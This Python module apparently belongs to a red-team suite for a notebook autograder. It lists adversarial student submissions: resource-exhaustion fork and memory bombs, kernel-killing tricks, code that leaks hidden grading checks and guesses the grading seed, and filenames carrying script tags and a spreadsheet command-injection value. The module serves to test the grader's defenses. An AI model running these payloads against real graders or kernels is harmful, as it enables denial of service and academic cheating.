"""The third round: at what stands around a kernel, by the kinds of the second round's findings.

Texts made against patterns, memory that nobody counts, deaths that look like ours, processors,
bits that leave through pages, the seed, names at the limit.
"""

from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from .attacks import Attack
from .messages import PRELUDE, RAW

CHECK = 'text = get_ipython().user_ns["In"][-1]\n'

# ---------------------------------------------------------------------------- texts for patterns
TEXTS = {
    "errors_that_match_almost": r"""
def double(x):
    raise IndexError("index " + "1" * 140 + " is out of bounds for axis " + "1 " * 60 + "\x00")
def row_sums(x):
    raise RuntimeError("The size of tensor a (" + "9, " * 70 + ") must match " + "(" * 60)
""",
    "asserts_that_match_almost": r"""
def double(x):
    raise AssertionError("double(3) is not 6" + ": do you" * 30 + " multiply by two" * 2)
def row_sums(x):
    raise AssertionError("one sum a row" + ("1.e" * 20 + "a." * 40 + "[({" * 20) + "?")
""",
    "pictures_that_are_none": r"""
from IPython.display import display
def double(x):
    for body in ("iVBORw0KGgo" + "\n" * 300_000 + "!", "iVBORw0KGgo" + "=" * 300_000,
                 "iVBORw0KGgo" + "A\r\n" * 100_000 + "\x00", " " * 300_000 + "iVBORw0KGgo"):
        display({"image/png": body, "text/plain": "p"}, raw=True)
    return 3 * x
""",
    "markup_that_never_closes": r"""
from IPython.display import display
def double(x):
    for html in ("<" * 90_000, "<a " * 30_000, "<!--" * 20_000, "&#x" * 30_000,
                 "<table><tr><td>" * 6_000, "<p style='" + "a:b;" * 20_000):
        display({"text/html": html, "text/markdown": html, "text/plain": html[:99]}, raw=True)
    return 3 * x
""",
    "terminal_codes_that_never_end": r"""
def double(x):
    print("\x1b[" * 60_000 + "\x1b]" * 20_000 + "\x1b[" + "1;" * 60_000)
    raise ValueError("\x1b[" + ";" * 250 + "m")
""",
    "labels_that_are_texts": PRELUDE
    + r"""
silence_probes()
def publish():
    for label in ("m" * 100_000, "matrix\n" * 9_000, "\x1b[2J", "</td><script>", "../" * 300, ""):
        forge(evidence(label))
    forge(evidence("matrix", {"kind": "error", "type": "A" * 9_000, "message": "(" * 90_000}))
    forge(evidence("scalar", {"kind": "text", "value": "a " * 90_000}))
at_checks(publish)
""",
}

# ------------------------------------------------------------------------ memory that is not seen
MEMORY = {
    "pipes_made_large": """
import fcntl, os
held = []
def double(x):
    try:
        while True:
            reader, writer = os.pipe()
            held.append((reader, writer))
            for size in (2**24, 2**20, 2**18):
                try:
                    fcntl.fcntl(writer, 1031, size)
                    break
                except OSError:
                    pass
            os.set_blocking(writer, False)
            os.write(writer, bytes(2**24))
    except OSError:
        return 3 * x
""",
    "segments_that_outlive_processes": """
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
names = []
for call in (lambda: libc.shmget(0, 2**26, 0o1600), lambda: libc.msgget(0, 0o1600),
             lambda: libc.syscall(319, b"x", 0), lambda: libc.syscall(447, 0),
             lambda: libc.semget(0, 200, 0o1600)):
    if call() >= 0:
        names.append("made")
if names:
    print("GOT", names)
""",
    "page_tables_without_pages": """
import mmap
def double(x):
    held = []
    try:
        while True:
            held.append(mmap.mmap(-1, 2**30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000))
            for start in range(0, 2**30, 2**21):
                held[-1][start] = 1
    except (OSError, MemoryError):
        return 3 * x
""",
    "arguments_of_many_processes": """
import os, signal
words = ["sh", "-c", "sleep 60 & wait", *["x" * 120_000] * 12]
for _ in range(60):
    try:
        if os.fork() == 0:
            os.setsid()
            os.execvp("sh", words)
    except OSError:
        break
""",
    "stacks_of_many_threads": """
import threading, time
threading.stack_size(2**26)
def deep(n):
    return deep(n - 1) if n else time.sleep(3)
for _ in range(60):
    try:
        threading.Thread(target=deep, args=(700,), daemon=True).start()
    except RuntimeError:
        break
""",
    "files_written_and_deleted": """
held = []
def double(x):
    try:
        for place in ("/tmp", "/dev/shm", "/home/student", "."):
            for number in range(200):
                held.append(open(f"{place}/gone{number}", "wb+"))
                import os
                os.unlink(held[-1].name)
                held[-1].write(bytes(2**24))
                held[-1].flush()
    except OSError:
        pass
    return 3 * x
""",
}

# ------------------------------------------------------------------ deaths that look like ours
DEATHS = {
    "closes_all_it_holds": """
import os
def double(x):
    os.closerange(3, 4096)
    return 3 * x
""",
    "limits_its_own_processor_time": """
import resource
def double(x):
    resource.setrlimit(resource.RLIMIT_CPU, (1, 1))
    while True:
        pass
""",
    "limits_its_own_memory": """
import resource
def double(x):
    resource.setrlimit(resource.RLIMIT_AS, (1, 1))
    resource.setrlimit(resource.RLIMIT_NOFILE, (0, 0))
    return [3 * x for _ in range(10**6)]
""",
    "traced_and_stopped": """
import ctypes, os, signal
def double(x):
    ctypes.CDLL(None).ptrace(0, 0, 0, 0)
    os.kill(os.getpid(), signal.SIGTRAP)
    os.kill(os.getpid(), signal.SIGSTOP)
    return 3 * x
""",
    "becomes_another_program": """
import os
def double(x):
    os.execvp("sh", ["sh", "-c", "sleep 600"])
""",
    "becomes_another_program_with_its_sockets": PRELUDE
    + RAW
    + """
def double(x):
    import sys
    for number, one in list(listening()):
        os.set_inheritable(number, True)
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)"])
""",
    "says_last_words": """
import json, os, socket
words = json.dumps({"cause": "", "code": 0, "peak_mb": 0}).encode()
for name in [*os.listdir("/proc/self/fd"), *(f"/proc/1/fd/{n}" for n in range(64))]:
    try:
        number = int(name) if name.isdigit() else os.open(name, os.O_RDWR)
        one = socket.socket(fileno=os.dup(number))
        if one.type == socket.SOCK_SEQPACKET:
            one.send(words)
            print("GOT the launcher's socket")
    except (OSError, ValueError):
        pass
""",
    "its_child_takes_its_place": """
import os, time
if os.fork():
    os._exit(0)
os.setsid()
time.sleep(60)
""",
    "ends_with_every_signal": """
import os, signal
def double(x):
    for number in (signal.SIGHUP, signal.SIGPIPE, signal.SIGALRM, signal.SIGUSR1, signal.SIGIO,
                   signal.SIGXFSZ, signal.SIGSYS, signal.SIGPWR, signal.SIGXCPU):
        if os.fork() == 0:
            os.kill(os.getppid(), number)
            os._exit(0)
    return 3 * x
""",
}

# ------------------------------------------------------------------------ the processor
PROCESSOR = {
    "yields_without_end": """
import os, threading
def spin():
    while True:
        os.sched_yield()
for _ in range(20):
    threading.Thread(target=spin, daemon=True).start()
""",
    "bound_to_one_processor": """
import os
for _ in range(30):
    try:
        if os.fork() == 0:
            os.setsid()
            os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
            while True:
                os.getppid()
    except OSError:
        break
""",
}

# ------------------------------------------------------------------------ bits that leave
BITS = {
    "hidden_check_in_the_display_of_an_earlier_cell": """
from IPython.display import display
shown = display({"text/plain": "nothing"}, raw=True, display_id="early")
def double(x):
    CHECK
    shown.update({"text/plain": text, "text/html": text}, raw=True)
    return 3 * x
""",
    "hidden_check_as_the_next_input": """
def double(x):
    CHECK
    get_ipython().set_next_input(text)
    get_ipython().payload_manager.write_payload({"source": "page", "data": {"text/plain": text}})
    return 3 * x
""",
    "hidden_check_in_every_later_error": """
import sys
def double(x):
    CHECK
    error = ValueError("x")
    error.add_note(text)
    error.__cause__ = type(text[:60], (Exception,), {"__module__": text})(text)
    raise error
row_sums = double
""",
    "hidden_check_as_a_picture": """
import base64
from IPython.display import display
def double(x):
    CHECK
    packed = base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + text.encode()).decode()
    display({"image/png": packed, "image/svg+xml": f"<svg><text>{text}</text></svg>"}, raw=True)
    return 3 * x
""",
    "hidden_check_in_the_cell_behind": """
def double(x):
    CHECK
    globals()["stolen"] = text
    return 3 * x
""",
    "hidden_check_as_names_that_are_known": """
def double(x):
    CHECK
    start = text.find("CANARY")
    bits = "".join(f"{ord(c):08b}" for c in text[start:start + 19])
    raise KeyError(".".join("row_sums" if bit == "1" else "double" for bit in bits))
row_sums = double
""",
    "seed_from_keys": """
import hashlib, hmac, os, re
def double(x):
    CHECK
    known = set(re.findall(r"[0-9a-f]{16,}", text))
    for seed in ("word2chat", "0", "", *os.environ.values()):
        for name in ("double", "check_double", "week90_tiny"):
            for made in (hashlib.sha256(f"{seed}{name}".encode()).hexdigest(),
                         hmac.new(seed.encode(), name.encode(), "sha256").hexdigest()):
                if any(made.startswith(key) or key in made for key in known):
                    print("GOT the seed", seed)
    return 3 * x
""",
    "key_of_the_next_check": """
import gc
def double(x):
    CHECK
    for item in gc.get_objects():
        if isinstance(item, dict) and "check_row_sums" in item:
            print("GOT", item["check_row_sums"])
    return 3 * x
""",
}


def _filled(code: str) -> str:
    return code.replace("CHECK", CHECK.strip())


# ------------------------------------------------------------------------ names and files
def with_cell_behind(notebook: NotebookNode) -> NotebookNode:
    """Cells of the student's own behind every check, which print what was stolen."""
    shows = "print(globals().get('stolen'), get_ipython().user_ns['In'][-2:])"
    cells = []
    for cell in notebook.cells:
        cells.append(cell)
        if cell.id.startswith("check_"):
            cells += [new_code_cell(shows, id=f"after-{cell.id}"), new_markdown_cell("# after")]
    notebook.cells = cells
    return notebook


def with_names_of_ours(notebook: NotebookNode) -> NotebookNode:
    """Cells whose ids and texts are words that the grader itself uses."""
    names = ("In", "__proto__", "constructor", "points", "wrong", "needs_review", "None", "0")
    notebook.cells += [new_code_cell(f"# {name}\n{name!r}", id=name) for name in names]
    return notebook


NAMES = {
    **{f"{'d' * 239}{number}": b"x" for number in range(3)},
    "/".join(["f" * 150] * 5): b"at the limit of a path",
    "page.HTML": b"<script>1</script>", "page.xht": b"<script/>", "page.svgz": b"\x1f\x8b",
    "page.html.": b"<script>1</script>", "page.shtml": b"<script/>", "page.mht": b"<script/>",
    "data.csv": b"=cmd|'/c calc'!A1", "notes.txt": b"<script>1</script>",
}  # fmt: skip
QUICK = {
    "errors_that_match_almost", "pictures_that_are_none", "says_last_words", "seed_from_keys",
    "hidden_check_in_the_display_of_an_earlier_cell", "segments_that_outlive_processes",
}  # fmt: skip
ENDS = {"its_child_takes_its_place"}  # the kernel, before the attack's last line
CODES = {**TEXTS, **MEMORY, **DEATHS, **PROCESSOR, **BITS}
ATTACKS = [
    *(
        Attack(name, _filled(code), armed=name not in ENDS, slow=name not in QUICK)
        for name, code in CODES.items()
    ),
    Attack(
        "checks_read_in_cells_behind", _filled(BITS["hidden_check_in_the_cell_behind"]),
        change=with_cell_behind, slow=True,
    ),
    Attack("cells_with_names_of_ours", change=with_names_of_ours, slow=True),
    Attack("files_at_the_limit_of_names", files=NAMES, slow=True),
]  # fmt: skip
